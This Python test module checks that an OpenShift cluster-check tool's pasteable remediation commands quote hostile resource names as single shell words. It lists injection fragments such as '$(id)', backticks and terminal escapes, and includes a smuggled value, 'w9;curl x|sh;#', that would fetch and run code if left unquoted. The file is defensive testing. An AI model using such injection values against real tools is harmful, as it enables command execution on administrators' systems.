"""A remediation is a command a person pastes: a name from outside input (a snapshot object, an
inventory path, a file in the web root) is one shell word in it, whatever it holds.

Each case builds a failing verdict around a hostile name and reads the remediation the way a
shell does (``shlex`` with ``;``, ``&`` and ``|`` as operators): the words of the command, then
the name as exactly one argument. A name holding characters no one can type (ESC, a newline) is
shown escaped (``collectors.visible.visible_line``): the command then names the escaped text.
"""

from __future__ import annotations

import json
import shlex
from collections.abc import Callable

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from checks.cluster import evaluate_operator
from checks.csr import evaluate_csrs
from checks.http import evaluate_served
from checks.ignition import evaluate_pointer, evaluate_served_copy
from checks.mirror import evaluate_access, evaluate_cluster_trust, evaluate_release
from checks.nodes import evaluate_name, evaluate_ready
from checks.operatorhub import evaluate_catalog
from checks.placement import evaluate_infra_taints, evaluate_router
from checks.upgrade import evaluate_upgrade
from collectors.cluster.samples import skip_patch
from collectors.facts.csr import CsrFacts
from collectors.facts.http import ServedFacts
from collectors.facts.ignition import PointerFacts, ServedCopy
from collectors.facts.mirror import AccessProbe, ClusterTrustFacts, ReleaseFacts
from collectors.facts.operatorhub import CatalogFacts
from collectors.facts.placement import RouterFacts
from collectors.install.bastion import HttpAnswer
from collectors.inventory import load_inventory
from collectors.visible import visible_line

INVENTORY = """
cluster: {name: c1, base_domain: example.com}
nodes:
  - {name: w1, role: worker, ip: 10.0.0.31}
"""

#: Fragments that end a shell word, start another command, expand, or reach the terminal.
HOSTILE = [
    ";",
    "|",
    "&",
    "$(id)",
    "`id`",
    "'",
    '"',
    "\\",
    " ",
    "#",
    "\n",
    "\x1b]0;t\x07",
    "\x1b[8m",
    ">",
    "<",
    "*",
    "~",
    "-",
    "\u2028",
]
names = st.lists(
    st.one_of(st.sampled_from(HOSTILE), st.text(min_size=1, max_size=4)), min_size=1, max_size=8
).map("".join)


def words_at(text: str, command: str, extra: int = 1) -> list[str]:
    """The words a shell reads from where ``command`` starts in ``text``: the command's own
    words and ``extra`` more (operators ``;``, ``&&`` and ``|`` are words of their own)."""
    start = text.index(command)
    lexer = shlex.shlex(text[start:], posix=True, punctuation_chars=";&|()")
    lexer.whitespace_split = True
    return [lexer.get_token() for _ in range(len(command.split()) + extra)]


def inventory():
    import tempfile
    from pathlib import Path

    path = Path(tempfile.mkdtemp()) / "site.yaml"
    path.write_text(INVENTORY)
    return load_inventory(path)


def node(name: str, ready: str = "False") -> dict:
    return {
        "metadata": {"name": name},
        "status": {
            "addresses": [{"type": "InternalIP", "address": "10.0.0.31"}],
            "conditions": [{"type": "Ready", "status": ready}],
        },
    }


def _ready(name: str) -> str:
    return evaluate_ready(node(name), inventory()).remediation


def _operator(name: str) -> str:
    co = {"metadata": {"name": name}, "status": {"conditions": []}}
    return evaluate_operator(co).remediation


def _csr(name: str) -> str:
    return evaluate_csrs(CsrFacts(((name, "system:node:w1"),), 1)).remediation


def _localhost(name: str) -> str:
    return evaluate_name(node("localhost"), inventory()).remediation


def _taints(name: str) -> str:
    return evaluate_infra_taints(name, None).remediation


def _router(name: str) -> str:
    facts = RouterFacts(f"openshift-ingress/{name}", None, None, {}, "/etc/haproxy/haproxy.cfg")
    return evaluate_router(facts).remediation


def _catalog(name: str) -> str:
    source = {"metadata": {"name": name, "namespace": "openshift-marketplace"}, "spec": {}}
    return evaluate_catalog(CatalogFacts(source, [])).remediation


def _mcp(name: str) -> str:
    return evaluate_upgrade(
        "machineconfigpool", {"metadata": {"name": name}, "spec": {"paused": True}}
    ).remediation


def _mhc(name: str) -> str:
    mhc = {"metadata": {"name": name, "namespace": "openshift-machine-api"}}
    return evaluate_upgrade("machinehealthcheck", mhc).remediation


def _served(name: str) -> str:
    facts = ServedFacts(name, "/var/www/html", HttpAnswer("http://b/x", 403))
    return evaluate_served(facts).remediation


def _pointer_dir(name: str) -> str:
    return evaluate_pointer(PointerFacts("worker.ign", False), "x", None, name).remediation  # type: ignore[arg-type]


def _served_copy(name: str) -> str:
    copy = ServedCopy("worker.ign", "ab" * 32, HttpAnswer("http://b/w", 200), "cd" * 32, "HTTP")
    return evaluate_served_copy(copy, name, "/var/www/html").remediation


def _access_auth(name: str) -> str:
    from collectors.images.registry.errors import RegistryError

    error = RegistryError("unauthorized", kind="auth")
    return evaluate_access(AccessProbe("m:5000", None, error, auth_file=name)).remediation


def _release(name: str) -> str:
    facts = ReleaseFacts("m:5000/ocp4/release:4.18.1", False)
    return evaluate_release(facts, name).remediation


def _trust(name: str) -> str:
    facts = ClusterTrustFacts("m", 5000, ("m..5000",), name, False, (), None, None)
    return evaluate_cluster_trust(facts).remediation


def _target_auth(name: str) -> str:
    from checks.upgrade import release_mirror_command
    from collectors.facts.upgrade import TargetFacts

    digest = "sha256:" + "a" * 64
    facts = TargetFacts(f"m:5000/o@{digest}", digest, "m:5000", name, (), None, version="4.18.1")
    return release_mirror_command(facts)


#: (check, remediation for a hostile name, the command words before the name).
CASES: list[tuple[str, Callable[[str], str], str]] = [
    ("nodes.ready", _ready, "oc describe node"),
    ("cluster.operators", _operator, "oc describe clusteroperator"),
    ("csr.pending", _csr, "oc adm certificate approve"),
    ("placement.infra_taints", _taints, "oc label node"),
    ("placement.router_behind_lb", _router, "oc -n openshift-ingress describe pod"),
    ("operatorhub.sources", _catalog, "oc -n openshift-marketplace describe pod -l"),
    ("upgrade.readiness", _mhc, "oc -n openshift-machine-api annotate mhc"),
    ("http.served", _served, "chmod 644"),
    ("ignition.pointer", _pointer_dir, "openshift-install create ignition-configs --dir"),
    ("ignition.served_matches", _served_copy, "cp"),
    ("mirror.access", _access_auth, "podman login --authfile"),
    ("mirror.release", _release, "oc adm release mirror -a"),
    ("mirror.cluster_trust", _trust, "oc create configmap"),
    ("upgrade.target", _target_auth, "oc adm release mirror -a"),
]


def expected_word(name: str, command: str) -> str:
    shown = visible_line(name)
    if command == "chmod 644":
        return f"/var/www/html/{shown}"
    if command == "cp":
        return f"{shown}/worker.ign"
    if command.endswith("-l"):
        return f"olm.catalogSource={shown}"
    return shown


@pytest.mark.parametrize("check_id, remediation, command", CASES, ids=[c[0] for c in CASES])
@settings(max_examples=60, deadline=None)
@given(name=names)
@example(name="/")  # a web root file named by an absolute path stays under the root
@example(name="/etc/passwd")
def test_a_hostile_name_is_one_word_of_the_command(check_id, remediation, command, name) -> None:
    text = remediation(name)
    words = words_at(text, command)
    assert words[:-1] == shlex.split(command), (check_id, text)
    assert words[-1] == expected_word(name, command), (check_id, text)


@settings(max_examples=60, deadline=None)
@given(name=names)
def test_a_paused_pool_name_is_one_word(name: str) -> None:
    words = words_at(_mcp(name), "oc patch")
    assert words[-1] == f"mcp/{visible_line(name)}"


@settings(max_examples=60, deadline=None)
@given(source=names)
def test_an_icsp_here_string_is_one_json_word(source: str) -> None:
    from checks.upgrade import icsp_command

    words = words_at(icsp_command((source,), "m:5000/o"), "oc apply -f -", extra=2)
    assert words[-2] == "<<<"
    held = json.loads(words[-1])["spec"]["repositoryDigestMirrors"][0]["source"]
    assert held == source


@settings(max_examples=60, deadline=None)
@given(streams=st.lists(names, min_size=1, max_size=3))
def test_a_skip_patch_is_one_json_word_holding_every_stream(streams: list[str]) -> None:
    words = words_at(skip_patch(streams[1:], streams[0]), "oc patch", extra=5)
    assert words[-2] == "--patch"
    held = json.loads(words[-1])["spec"]["skippedImagestreams"]
    assert held == list(dict.fromkeys([*streams[1:], streams[0]]))


def test_the_localhost_fix_quotes_nothing_it_does_not_need_to() -> None:
    text = _localhost("x")
    assert "oc delete node localhost" in text and "hostnamectl set-hostname" in text


def test_the_old_unquoted_form_would_have_run_the_name() -> None:
    """What the test guards against: the name of the issue, pasted unquoted, is three commands."""
    hostile = "w9;curl x|sh;#"
    assert words_at(f"oc describe node {hostile}", "oc describe node")[-1] == "w9"
    assert words_at(_ready(hostile), "oc describe node")[-1] == hostile
